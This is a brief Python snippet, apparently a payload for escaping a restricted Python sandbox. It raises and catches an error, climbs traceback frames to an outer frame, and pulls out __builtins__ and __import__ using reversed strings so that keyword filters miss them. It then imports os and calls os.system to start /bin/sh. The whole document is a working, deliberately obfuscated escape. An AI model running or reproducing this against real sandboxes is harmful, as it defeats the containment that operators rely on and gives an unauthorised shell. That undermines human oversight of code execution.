# technique: raise and catch an error, climb tb_frame.f_back to an unsandboxed frame; names reversed strings
try:
    1 / 0
except Exception as e:
    tb = e.__traceback__
frame = tb.tb_frame
hop = 0
while frame.f_back is not None and hop < 20:
    frame = frame.f_back
    hop += 1
bi = frame.f_globals["__snitliub__"[::-1]]
bi = bi if isinstance(bi, dict) else bi.__dict__
loader = bi["__tropmi__"[::-1]]
m = loader("so"[::-1])
getattr(m, "metsys"[::-1])("hs/nib/"[::-1])
